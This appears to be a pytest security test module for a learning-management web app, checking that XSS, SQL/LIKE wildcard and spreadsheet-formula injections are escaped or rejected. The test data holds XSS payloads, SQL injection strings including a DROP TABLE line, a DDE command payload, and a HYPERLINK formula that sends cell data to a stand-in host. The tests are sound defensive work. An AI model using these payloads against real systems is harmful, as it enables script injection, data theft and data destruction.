"""Injection: stored and reflected XSS (names, units, audit summaries, import previews, flash
messages, form errors), SQL/LIKE wildcards in search and filters, and spreadsheet formulas in
the downloadable import template."""

from __future__ import annotations

import io
import re
import zipfile

import openpyxl
import sqlalchemy as sa

from lms.actors import SYSTEM
from lms.db import db
from lms.models import AuditEntry, Person
from lms.services import people as people_service
from lms.services import units as unit_service
from tests.conftest import TEST_PASSWORD
from tests.security import login, roster_csv, snapshot, upload, world  # noqa: F401  (fixture)

PAYLOAD = '<img src=x onerror=alert(1)>'
ESCAPED = "&lt;img src=x onerror=alert(1)&gt;"
# Found in review: Flask-Babel's LazyString.__html__ returned the interpolated text unescaped, so
# every lazy_gettext(..., name=<user data>) rendered by Jinja (flash messages, ServiceError
# messages in form errors and in the import preview) was raw HTML. lms.i18n.lazy_gettext fixes it;
# the tests in the "lazy translated strings" section below guard that fix.


def _no_markup(html: str, where: str = "") -> None:
    assert "<img" not in html.lower(), where


def _rename(unit, name):
    unit_service.update_unit(db.session, SYSTEM, unit, name=name, code=unit.code, kind=unit.kind)
    db.session.commit()


# -- stored XSS that is escaped ----------------------------------------------------------------

def test_unit_names_are_escaped_on_every_page(app, world):
    _rename(world.u, PAYLOAD)
    _rename(world.u1, PAYLOAD + " 2")
    people_service.grant_role(db.session, SYSTEM, world.trainee_u, "unit_admin", world.u1)
    db.session.commit()
    for email, paths in (
        (world.admin.email, ["/admin/units/", f"/admin/units/{world.u.id}", f"/admin/units/{world.u1.id}",
                             f"/admin/people/{world.trainee_u.id}", f"/admin/people/{world.trainee_u1.id}",
                             "/admin/people/", "/admin/people/?active=", "/admin/people/new", "/admin/units/new",
                             "/admin/audit/", "/"]),
        (world.ua.email, ["/", "/admin/units/", f"/admin/units/{world.u1.id}", "/admin/people/",
                          f"/admin/people/{world.trainee_u.id}"]),
        (world.trainee_u.email, ["/"]),
    ):
        client = login(app, email)
        for path in paths:
            html = client.get(path).get_data(as_text=True)
            _no_markup(html, (email, path))
    assert ESCAPED in html  # the trainee's home page shows their unit, escaped


def test_people_fields_cannot_carry_markup(app, world):
    client = login(app, world.ua.email)
    before = snapshot()
    for field, value in (("edit-full_name", PAYLOAD), ("edit-full_name", "An\"onmouseover=alert(1)"),
                         ("edit-email", '"><script>@example.vn'), ("edit-phone", PAYLOAD)):
        data = {"edit-full_name": "Học Viên Một", "edit-email": world.trainee_u.email, "edit-employment_type": "civil_servant",
                field: value}
        response = client.post(f"/admin/people/{world.trainee_u.id}/edit", data=data)
        assert response.status_code == 422, (field, value)
    assert snapshot() == before


def test_a_position_is_text_stored_as_written_and_escaped_never_evaluated(app, world):
    """A position is free text (issue 7: "<b>Trưởng phòng</b>" sank a whole import): markup and
    template syntax are stored as typed and escaped where shown; nothing evaluates them."""
    client = login(app, world.ua.email)
    for value in (PAYLOAD, "{{7*7}} {% raw %} ${7*7}"):
        data = {"edit-full_name": "Học Viên Một", "edit-email": world.trainee_u.email,
                "edit-employment_type": "civil_servant", "edit-position": value}
        response = client.post(f"/admin/people/{world.trainee_u.id}/edit", data=data)
        assert response.status_code == 302, value
        db.session.expire_all()
        assert db.session.get(Person, world.trainee_u.id).position == value
        html = client.get(f"/admin/people/{world.trainee_u.id}").get_data(as_text=True)
        _no_markup(html, value)
    assert "{{7*7}} {% raw %} ${7*7}" in html  # shown as typed, not evaluated


def test_failed_login_with_markup_in_the_email_is_escaped_in_the_audit_log(app, world):
    """Anyone can write the audit summary of a failed log-in; administrators read it."""
    anonymous = app.test_client()
    for email in (PAYLOAD, '"><svg onload=alert(1)>', "{{config}}"):
        response = anonymous.post("/login", data={"email": email, "password": "x"})
        assert response.status_code == 200
        html = response.get_data(as_text=True)
        _no_markup(html)
        assert "<svg" not in html
    assert db.session.scalar(sa.select(sa.func.count()).select_from(AuditEntry)
                             .where(AuditEntry.action == "auth.failed")) == 3
    html = login(app, world.admin.email).get("/admin/audit/?action=auth.failed").get_data(as_text=True)
    _no_markup(html)
    assert "<svg" not in html and ESCAPED in html
    assert "SECRET_KEY" not in html  # no template evaluation of the summary


def test_import_preview_escapes_names_and_emails(app, world):
    client = login(app, world.admin.email)
    response = upload(client, roster_csv((PAYLOAD, PAYLOAD + "@example.vn", "U", "", ""),
                                         ("An Bình", "an@example.vn", "U", "", "")))
    assert response.status_code == 422
    html = response.get_data(as_text=True)
    assert ESCAPED in html  # the row is shown, escaped (the name and e-mail columns)


# -- lazy translated strings with user values (flash messages, form errors, previews) -----------------------------------------

def test_flash_messages_escape_unit_names(app, world):
    boss = login(app, world.admin.email)
    _rename(world.u1, PAYLOAD)  # an administrator names a unit ...
    client = login(app, world.ua.email)  # ... a unit administrator moves someone into it
    response = client.post(f"/admin/people/{world.trainee_u.id}/move",
                           data={"move-unit": world.u1.id, "move-on": "2025-01-02"}, follow_redirects=True)
    assert response.status_code == 200
    _no_markup(response.get_data(as_text=True), "move flash")
    response = boss.post("/admin/units/new", data={"name": PAYLOAD + " 3", "code": "X3", "kind": "other",
                                                   "parent": world.root.id, "on": "2025-01-02"},
                         follow_redirects=True)
    _no_markup(response.get_data(as_text=True), "create flash")


def test_form_errors_escape_the_echoed_input(app, world):
    client = login(app, world.ua.email)
    response = client.post("/admin/people/new", data={
        "full_name": "An Bình", "email": PAYLOAD, "employment_type": "civil_servant", "unit": world.u.id, "on": "2025-01-02",
        "roles": ["trainee"], "password": TEST_PASSWORD})
    assert response.status_code == 422
    _no_markup(response.get_data(as_text=True))
    response = client.post(f"/admin/people/{world.trainee_u.id}/edit", data={
        "edit-full_name": "Học Viên Một", "edit-email": PAYLOAD, "edit-employment_type": "civil_servant"})
    assert response.status_code == 422
    _no_markup(response.get_data(as_text=True))


def test_import_preview_escapes_cell_values_and_unit_names(app, world):
    _rename(world.v, PAYLOAD)  # a unit outside the unit administrator's scope
    client = login(app, world.ua.email)
    for content in (
        roster_csv(("An Bình", "an@example.vn", PAYLOAD, "", "")),  # unknown unit code
        roster_csv(("An Bình", "an@example.vn", "U", PAYLOAD, "")),  # unknown role
        roster_csv(("An Bình", "an@example.vn", "U", "", PAYLOAD)),  # bad date
        roster_csv(("An Bình", "an@example.vn", "V", "", "")),  # unit outside scope: its name is echoed
        roster_csv(("An Bình", PAYLOAD, "U", "", "")),  # invalid e-mail, echoed in the message
    ):
        response = upload(client, content)
        assert response.status_code == 422
        _no_markup(response.get_data(as_text=True))


# -- SQL and LIKE injection ------------------------------------------------------------------

def test_search_wildcards_are_literal(app, world):
    client = login(app, world.admin.email)
    everyone = client.get("/admin/people/").get_data(as_text=True)
    assert world.trainee_v.email in everyone
    for q in ("%", "_", "%%", "__", "\\", "\\%", "%_%", "' OR '1'='1", "\" OR 1=1 --", "') OR ('a'='a",
              "*", "[a-z]", "a%", "%a", "1; DROP TABLE people; --"):
        html = client.get("/admin/people/", query_string={"q": q}).get_data(as_text=True)
        assert world.trainee_v.email not in html and world.ua.email not in html, q
    # a real term still finds its person
    assert world.trainee_v.email in client.get("/admin/people/", query_string={"q": "ngoai pham"}).get_data(
        as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Person)) == 9


def test_audit_filters_treat_wildcards_literally(app, world):
    client = login(app, world.admin.email)
    client.post(f"/admin/people/{world.trainee_u.id}/key-cadre", data={"key-key_cadre": "1", "key-on": "2025-01-02"})
    assert "<td>Thay đổi cán bộ chủ chốt</td>" in client.get("/admin/audit/").get_data(as_text=True)
    for args in ({"action": "%"}, {"action": "n_k"}, {"action": "person%"}, {"actor": "%"}, {"actor": "_"},
                 {"actor": "' OR 1=1 --"}, {"action": "' OR '1'='1"}):
        html = client.get("/admin/audit/", query_string=args).get_data(as_text=True)
        assert "<td>Thay đổi cán bộ chủ chốt</td>" not in html and "<td>Đăng nhập</td>" not in html, args
    assert "<td>Thay đổi cán bộ chủ chốt</td>" in client.get("/admin/audit/", query_string={"action": "person.key_cadre"}
                                                         ).get_data(as_text=True)


def test_filters_with_non_enum_values_match_nothing_extra(app, world):
    client = login(app, world.ua.email)
    for args in ({"role": "admin' OR '1'='1"}, {"title": "x' OR 1=1 --"}, {"employment": "x' OR 1=1 --"}, {"unit": "1 OR 1=1"},
                 {"unit": str(world.v.id)}, {"key": "1 OR 1=1"}, {"active": "0 OR 1=1"}):
        response = client.get("/admin/people/", query_string=args)
        assert response.status_code == 200, args
        html = response.get_data(as_text=True)
        assert world.trainee_v.email not in html and world.admin.email not in html, args


# -- spreadsheet formulas in the downloadable template ----------------------------------------

FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)",
                 "=cmd|' /C calc'!A0", " =2+2", "\t=3+3", "\u200b=4+4", "http://evil.example/link"]


def test_template_never_contains_formulas_from_database_values(app, world, make_unit):
    for n, name in enumerate(FORMULA_NAMES):
        make_unit(name=name, code=f"F{n}", parent=world.u)
    client = login(app, world.ua.email)
    data = client.get("/admin/import/template.xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<f[\s>]", xml), name  # no formula cell anywhere
                assert "<hyperlink" not in xml, name
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert cell.hyperlink is None, (sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                seen.add(cell.value)
    assert '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")' in seen
    assert "=1+1" in seen and "@SUM(1,1)" in seen


def test_import_refuses_formula_like_values(app, world):
    client = login(app, world.ua.email)
    before = snapshot()
    for name, position in (("=HYPERLINK(\"http://evil\")", ""), ("An Bình", "=1+1"), ("An Bình", "@SUM(1)"),
                           ("An Bình", "+1"), ("An Bình", "-1")):
        content = roster_csv((name, "an@example.vn", "U", position),
                             headers=("Họ và tên", "Thư điện tử", "Mã đơn vị", "Chức vụ"))
        response = upload(client, content)
        assert response.status_code == 422, (name, position)
    assert snapshot() == before


# -- reflected query parameters ------------------------------------------------------------------

def test_reflected_query_parameters_are_escaped(app, world):
    client = login(app, world.admin.email)
    for path, args in (("/admin/people/", {"q": '"><img src=x onerror=alert(1)>'}),
                       ("/admin/audit/", {"actor": '"><img src=x onerror=alert(1)>', "action": "<img src=x>",
                                          "from": "<img>", "to": '"><img src=x>'}),
                       ("/admin/people/", {"unit": '"><img src=x>', "role": "<img>", "title": "<img>", "employment": "<img>"}),
                       ("/", {"x": '"><img src=x onerror=alert(1)>'}),
                       ("/admin/units/", {"closed": '"><img src=x>'})):
        html = client.get(path, query_string=args).get_data(as_text=True)
        _no_markup(html, path)
    anonymous = app.test_client()
    html = anonymous.get("/login", query_string={"next": '"><img src=x onerror=alert(1)>'}).get_data(as_text=True)
    _no_markup(html, "login")
